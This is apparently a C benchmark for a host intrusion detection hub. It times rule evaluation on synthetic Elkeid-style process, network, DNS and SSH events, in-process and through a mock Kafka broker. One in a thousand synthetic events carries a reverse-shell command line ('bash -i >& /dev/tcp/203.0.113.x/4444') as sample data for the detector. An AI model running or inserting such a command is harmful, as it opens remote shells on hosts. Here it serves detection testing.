/* bench_hub: events per second of the hub with the default ruleset on a realistic mix.
 *
 *   bench_hub [--seconds S] [--kafka-events N] [--rules DIR]
 *
 * The mix: 4096 distinct envelopes shaped like the driver's records (Elkeid's fields): about
 * 60% execve of everyday programs, 25% connect, 12% DNS, 2% exit, 1% SSH logins, and one
 * attack in a thousand so the alert path is part of the cost.
 *
 * In-process (one thread = one core): decode each envelope (the daemon's decoder) and
 * evaluate it, alerts rendered to JSON as the daemon does; then the same without decoding;
 * and the heap growth across a warm run (0 means no allocation per event).
 * Through Kafka: N events are produced to rampart.events on the Kafka-protocol broker
 * (tests/tools/kafka-mock), rampart-hub is started and timed from its partition assignment
 * until its rampart_hub_events_total reaches N. The mock broker keeps only a few MB per
 * partition (older data is dropped), so N stays around 50,000 of these ~700-byte events. */
#include <errno.h>
#include <inttypes.h>
#include <malloc.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <librdkafka/rdkafka.h>

#include "common/log.h"
#include "common/strbuf.h"
#include "envelope.pb-c.h"
#include "hub/alert.h"
#include "hub/engine.h"
#include "hub/event.h"
#include "hub/ruleset.h"
#include "tests/harness/harness.h"

#define NMSG 4096

typedef struct {
    uint8_t *buf;
    size_t len;
} msg_t;

static msg_t msgs[NMSG];
static uint64_t alerts;
static strbuf_t alert_sb;

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* CPU time of this thread: events per CPU second is the per-core figure even when the
 * machine is shared and the thread is not always running. */
static double cpu_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ---- the mix ----------------------------------------------------------------------------- */

typedef struct {
    Grpc__Payload__FieldsEntry ent[32], *ptr[32];
    char val[32][160];
    size_t n;
} fields_t;

static void f_add(fields_t *f, const char *k, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));

static void f_add(fields_t *f, const char *k, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(f->val[f->n], sizeof(f->val[0]), fmt, ap);
    va_end(ap);
    grpc__payload__fields_entry__init(&f->ent[f->n]);
    f->ent[f->n].key = (char *)k;
    f->ent[f->n].value = f->val[f->n];
    f->ptr[f->n] = &f->ent[f->n];
    f->n++;
}

static void common(fields_t *f, unsigned r, const char *exe, const char *comm)
{
    int pid = 2000 + (int)(r % 30000), ppid = 1000 + (int)(r % 900);
    f_add(f, "uid", "%d", r % 5 ? 1000 : 0);
    f_add(f, "exe", "%s", exe);
    f_add(f, "pid", "%d", pid);
    f_add(f, "ppid", "%d", ppid);
    f_add(f, "pgid", "%d", ppid);
    f_add(f, "tgid", "%d", pid);
    f_add(f, "sid", "%d", 900 + (int)(r % 40));
    f_add(f, "comm", "%s", comm);
    f_add(f, "nodename", "web-%u", r % 8);
    f_add(f, "sessionid", "%u", r % 50);
    f_add(f, "pns", "4026531836");
    f_add(f, "root_pns", "4026531836");
    f_add(f, "username", "%s", r % 5 ? "app" : "root");
    f_add(f, "pid_tree", "%d.%s<%d.bash<900.sshd<1.systemd", pid, comm, ppid);
}

static msg_t encode(int dt, unsigned r, fields_t *f)
{
    uint8_t pbuf[8192];
    Grpc__Payload pl = GRPC__PAYLOAD__INIT;
    pl.fields = f->ptr;
    pl.n_fields = f->n;
    size_t plen = grpc__payload__pack(&pl, pbuf);
    char agent[40];
    snprintf(agent, sizeof(agent), "agent-%04u", r % 500);
    Rampart__Envelope env = RAMPART__ENVELOPE__INIT;
    env.data_type = dt;
    env.agent_time = 1700000000 + r / 16;
    env.server_time = env.agent_time;
    env.agent_id = agent;
    env.hostname = "web-1";
    env.payload.data = pbuf;
    env.payload.len = plen;
    msg_t m;
    m.len = rampart__envelope__get_packed_size(&env);
    m.buf = malloc(m.len);
    rampart__envelope__pack(&env, m.buf);
    return m;
}

static void build_mix(void)
{
    static const char *const progs[][3] = {
        {"/usr/bin/ls", "ls", "ls -la /srv/app"},
        {"/usr/bin/cat", "cat", "cat /etc/os-release"},
        {"/usr/bin/grep", "grep", "grep -r TODO src/"},
        {"/usr/bin/python3.11", "python3", "python3 /srv/app/manage.py runjob"},
        {"/usr/bin/git", "git", "git status --porcelain"},
        {"/usr/bin/sed", "sed", "sed -n 1,20p config.ini"},
        {"/usr/bin/node", "node", "node /srv/web/server.js"},
        {"/usr/bin/java", "java", "java -Xmx2g -jar /opt/svc/app.jar"},
        {"/usr/bin/systemctl", "systemctl", "systemctl is-active nginx"},
        {"/usr/bin/curl", "curl", "curl -s http://localhost:8080/health"},
        {"/bin/bash", "bash", "bash -c /srv/app/bin/rotate.sh"},
        {"/usr/bin/awk", "awk", "awk {print $1} access.log"},
        {"/usr/bin/gcc", "gcc", "gcc -O2 -c main.c -o main.o"},
        {"/usr/bin/tar", "tar", "tar -czf /backup/db.tgz /var/lib/db"},
        {"/usr/bin/date", "date", "date +%s"},
        {"/usr/sbin/nginx", "nginx", "nginx -t"},
    };
    static const char *const domains[] = {
        "deb.debian.org", "api.github.com", "pypi.org",         "registry.npmjs.org",
        "db.internal",    "redis.internal", "s3.amazonaws.com", "metrics.example.com"};
    for (unsigned i = 0; i < NMSG; i++) {
        unsigned r = i * 2654435761u;
        unsigned pick = i % 1000;
        fields_t f = {0};
        if (pick == 999) { /* one attack in a thousand */
            common(&f, r, "/bin/bash", "bash");
            f_add(&f, "argv", "bash -i >& /dev/tcp/203.0.113.%u/4444 0>&1", r % 250);
            msgs[i] = encode(59, r, &f);
        } else if (pick < 600) {
            const char *const *p = progs[r % 16];
            common(&f, r, p[0], p[1]);
            f_add(&f, "argv", "%s", p[2]);
            f_add(&f, "run_path", "/srv/app");
            f_add(&f, "tty", "%s", r % 3 ? "-1" : "pts0");
            f_add(&f, "stdin", "%s", r % 3 ? "/dev/null" : "/dev/pts/0");
            f_add(&f, "stdout", "pipe:[%u]", r % 100000);
            f_add(&f, "dip", "-1");
            f_add(&f, "dport", "-1");
            f_add(&f, "sip", "-1");
            f_add(&f, "sport", "-1");
            f_add(&f, "sa_family", "-1");
            f_add(&f, "socket_pid", "-1");
            f_add(&f, "ssh", "-1");
            f_add(&f, "ld_preload", "-1");
            f_add(&f, "res", "0");
            msgs[i] = encode(59, r, &f);
        } else if (pick < 850) {
            const char *const *p = progs[(r >> 4) % 16];
            common(&f, r, p[0], p[1]);
            f_add(&f, "sa_family", "2");
            f_add(&f, "dip", "10.0.%u.%u", (r >> 8) % 4, r % 250);
            f_add(&f, "dport", "%u", (unsigned[]){443, 80, 5432, 6379, 9200}[r % 5]);
            f_add(&f, "sip", "10.0.9.%u", r % 200);
            f_add(&f, "sport", "%u", 30000 + r % 30000);
            f_add(&f, "res", "0");
            msgs[i] = encode(42, r, &f);
        } else if (pick < 970) {
            common(&f, r, "/usr/bin/python3.11", "python3");
            f_add(&f, "query", "%s", domains[r % 8]);
            f_add(&f, "sa_family", "2");
            f_add(&f, "dip", "10.0.0.2");
            f_add(&f, "dport", "53");
            f_add(&f, "opcode", "0");
            f_add(&f, "rcode", "0");
            msgs[i] = encode(601, r, &f);
        } else if (pick < 990) {
            common(&f, r, "/usr/bin/ls", "ls");
            msgs[i] = encode(60, r, &f);
        } else {
            f_add(&f, "status", "%s", r % 4 ? "true" : "false");
            f_add(&f, "types", "publickey");
            f_add(&f, "invalid", "false");
            f_add(&f, "user", "deploy");
            f_add(&f, "sip", "10.0.8.%u", r % 100);
            f_add(&f, "sport", "%u", 40000 + r % 20000);
            msgs[i] = encode(4000, r, &f);
        }
    }
}

/* ---- in-process ----------------------------------------------------------------------------- */

static const char *top_rule[8];
static uint64_t top_count[8];

static void on_alert(void *ud, const hub_alert_t *a)
{
    (void)ud;
    alert_sb.len = 0;
    alert_render(a, "bench", 0, &alert_sb);
    alerts++;
    for (int i = 0; i < 8; i++) {
        if (!top_rule[i] || strcmp(top_rule[i], a->rule->id) == 0) {
            top_rule[i] = a->rule->id;
            top_count[i]++;
            break;
        }
    }
}

static ruleset_t *load_rules(const char *dir)
{
    char err[1024];
    ruleset_t *rs = NULL;
    if (ruleset_load_dir(dir, NULL, 0, &rs, err, sizeof(err)) < 0) {
        fprintf(stderr, "bench_hub: %s\n", err);
        exit(1);
    }
    return rs;
}

static void in_process(const char *rules, double seconds)
{
    ruleset_t *rs = load_rules(rules);
    engine_opts_t o = {.emit = on_alert};
    engine_t *e = engine_new(&o);
    engine_set_ruleset(e, rs);
    event_decoder_t *d = event_decoder_new();
    hub_event_t ev;
    /* warm-up: fills the process table and grows the decoder's arena once */
    for (int round = 0; round < 4; round++)
        for (int i = 0; i < NMSG; i++)
            if (event_decode(d, msgs[i].buf, msgs[i].len, &ev) == 0)
                engine_process(e, &ev);
    struct mallinfo2 m0 = mallinfo2();
    uint64_t n = 0, a0 = alerts;
    double t0 = now_s(), c0 = cpu_s(), t;
    do {
        for (int i = 0; i < NMSG; i++) {
            if (event_decode(d, msgs[i].buf, msgs[i].len, &ev) == 0)
                engine_process(e, &ev);
        }
        n += NMSG;
        t = now_s();
    } while (t - t0 < seconds);
    double c = cpu_s() - c0;
    struct mallinfo2 m1 = mallinfo2();
    printf("in-process, decode + evaluate: %.0f events per CPU second (%.0f/s wall; %" PRIu64
           " events, %" PRIu64 " alerts, %zu rules)\n",
           (double)n / c, (double)n / (t - t0), n, alerts - a0, rs->nrules);
    printf("heap growth during the timed run: %zd bytes\n", (ssize_t)(m1.uordblks - m0.uordblks));
    for (int i = 0; i < 8 && top_rule[i]; i++)
        printf("  alerts of %s: %" PRIu64 "\n", top_rule[i], top_count[i]);

    /* the decoders alone: the wire decoder the daemon uses, and protobuf-c's unpack */
    double rate_dec[2];
    for (int which = 0; which < 2; which++) {
        n = 0;
        t0 = now_s();
        c0 = cpu_s();
        do {
            for (int i = 0; i < NMSG; i++)
                (void)(which ? event_decode_pb : event_decode)(d, msgs[i].buf, msgs[i].len, &ev);
            n += NMSG;
            t = now_s();
        } while (t - t0 < seconds / 2);
        rate_dec[which] = (double)n / (cpu_s() - c0);
    }
    printf("decode only, wire decoder:     %.0f events per CPU second\n", rate_dec[0]);
    printf("decode only, protobuf-c unpack: %.0f events per CPU second\n", rate_dec[1]);

    /* evaluation alone: events decoded beforehand */
    static Rampart__EnvelopeView *views[NMSG];
    static hub_event_t evs[NMSG];
    for (int i = 0; i < NMSG; i++) {
        views[i] = rampart__envelope_view__unpack(NULL, msgs[i].len, msgs[i].buf);
        evs[i] = (hub_event_t){.data_type = views[i]->data_type,
                               .time_ms = views[i]->agent_time * 1000,
                               .agent_id = views[i]->agent_id,
                               .hostname = views[i]->hostname,
                               .fields = views[i]->payload->fields,
                               .nfields = views[i]->payload->n_fields,
                               .identity = (uint64_t)i,
                               .partition = -1};
    }
    n = 0;
    t0 = now_s();
    c0 = cpu_s();
    do {
        for (int i = 0; i < NMSG; i++)
            engine_process(e, &evs[i]);
        n += NMSG;
        t = now_s();
    } while (t - t0 < seconds);
    c = cpu_s() - c0;
    printf("in-process, evaluate only:     %.0f events per CPU second (%.0f/s wall)\n",
           (double)n / c, (double)n / (t - t0));
    for (int i = 0; i < NMSG; i++)
        rampart__envelope_view__free_unpacked(views[i], NULL);
    event_decoder_free(d);
    engine_free(e);
    ruleset_free(rs);
}

/* ---- through Kafka ----------------------------------------------------------------------------
 */

static long hub_events(uint16_t port)
{
    char url[128];
    snprintf(url, sizeof(url), "http://127.0.0.1:%u/metrics", (unsigned)port);
    harness_http_response_t r;
    if (harness_http("GET", url, NULL, 0, NULL, &r) < 0 || r.status != 200) {
        harness_http_response_free(&r);
        return -1;
    }
    const char *p = strstr(r.body, "\nrampart_hub_events_total ");
    long v = p ? atol(p + strlen("\nrampart_hub_events_total ")) : -1;
    harness_http_response_free(&r);
    return v;
}

static long delivered;

static void on_dr(rd_kafka_t *rk, const rd_kafka_message_t *m, void *opaque)
{
    (void)rk;
    (void)opaque;
    if (!m->err)
        delivered++;
}

static int through_kafka(const char *rules, long total)
{
    char bootstrap[256], err[256];
    harness_proc_t *kafka = harness_kafka_start(bootstrap, sizeof(bootstrap));
    if (!kafka)
        return -1;
    rd_kafka_conf_t *c = rd_kafka_conf_new();
    rd_kafka_conf_set(c, "bootstrap.servers", bootstrap, err, sizeof(err));
    rd_kafka_conf_set(c, "linger.ms", "20", err, sizeof(err));
    rd_kafka_conf_set(c, "queue.buffering.max.messages", "1000000", err, sizeof(err));
    rd_kafka_conf_set_dr_msg_cb(c, on_dr);
    rd_kafka_t *p = rd_kafka_new(RD_KAFKA_PRODUCER, c, err, sizeof(err));
    for (long i = 0; i < total; i++) {
        const msg_t *m = &msgs[i % NMSG];
        while (rd_kafka_producev(p, RD_KAFKA_V_TOPIC("rampart.events"),
                                 RD_KAFKA_V_VALUE(m->buf, m->len), RD_KAFKA_V_KEY(&i, sizeof(i)),
                                 RD_KAFKA_V_MSGFLAGS(RD_KAFKA_MSG_F_COPY),
                                 RD_KAFKA_V_END) == RD_KAFKA_RESP_ERR__QUEUE_FULL)
            rd_kafka_poll(p, 10);
        if (i % 5000 == 4999) /* in steps: the mock broker falls behind on big bursts */
            rd_kafka_flush(p, 30000);
    }
    rd_kafka_flush(p, 120000);
    /* the mock broker keeps a few MB per partition and drops older data: what it holds is
     * what the hub can read */
    long held = 0;
    for (int part = 0; part < 64; part++) {
        int64_t lo = 0, hi = 0;
        if (rd_kafka_query_watermark_offsets(p, "rampart.events", part, &lo, &hi, 5000))
            break;
        held += (long)(hi - lo);
    }
    rd_kafka_destroy(p);
    if (delivered != total || held < total) {
        fprintf(stderr, "bench_hub: %ld of %ld events delivered, %ld held by the broker\n",
                delivered, total, held);
        total = held;
    }

    uint16_t port = harness_free_port();
    char bin[512], e0[300], e1[64], e2[1100], e3[64], e4[1100];
    harness_bin("hub/rampart-hub", bin, sizeof(bin));
    snprintf(e0, sizeof(e0), "RAMPART_HUB_KAFKA_BROKERS=%s", bootstrap);
    snprintf(e1, sizeof(e1), "RAMPART_HUB_HTTP_LISTEN=127.0.0.1:%u", (unsigned)port);
    snprintf(e2, sizeof(e2), "RAMPART_HUB_RULES_DIR=%s", rules);
    snprintf(e3, sizeof(e3), "RAMPART_HUB_LOG_LEVEL=info");
    snprintf(e4, sizeof(e4), "RAMPART_HUB_RULES_STATE_DIR=/nonexistent-bench-state");
    char *envp[] = {e0, e1, e2, e3, e4, NULL};
    char *argv[] = {bin, NULL};
    harness_proc_t *hub = harness_spawn("hub", argv, envp);
    char rest[256];
    int rc = -1;
    if (!hub || harness_wait_log(hub, "event=partitions_assigned", rest, sizeof(rest), 30000) < 0)
        goto done;
    double t0 = now_s(), t = t0;
    long seen = 0;
    while (seen < total && t - t0 < 300) {
        struct timespec ts = {0, 20 * 1000000};
        nanosleep(&ts, NULL);
        seen = hub_events(port);
        t = now_s();
    }
    printf("through Kafka (kafka-mock on loopback, one hub process): %.0f events/s "
           "(%ld of %ld events in %.2f s)\n",
           (double)seen / (t - t0), seen, total, t - t0);
    rc = seen >= total ? 0 : -1;
done:
    harness_stop(hub);
    harness_stop(kafka);
    return rc;
}

int main(int argc, char **argv)
{
    double seconds = 3;
    long kafka_events = 50000;
    char rules[1024];
    snprintf(rules, sizeof(rules), "%s", __FILE__); /* <src>/tests/bench/hub/bench_hub.c */
    char *cut = strstr(rules, "/tests/bench/");
    if (cut)
        strcpy(cut, "/hub/rules");
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
            seconds = atof(argv[++i]);
        else if (!strcmp(argv[i], "--kafka-events") && i + 1 < argc)
            kafka_events = atol(argv[++i]);
        else if (!strcmp(argv[i], "--rules") && i + 1 < argc)
            snprintf(rules, sizeof(rules), "%s", argv[++i]);
        else {
            fprintf(stderr, "usage: bench_hub [--seconds S] [--kafka-events N] [--rules DIR]\n");
            return 2;
        }
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    harness_init("bench_hub");
    log_init("bench", LOG_LEVEL_ERROR, 2);
    build_mix();
    in_process(rules, seconds);
    int rc = kafka_events > 0 ? through_kafka(rules, kafka_events) : 0;
    for (int i = 0; i < NMSG; i++)
        free(msgs[i].buf);
    strbuf_dispose(&alert_sb);
    return rc < 0 ? 1 : 0;
}
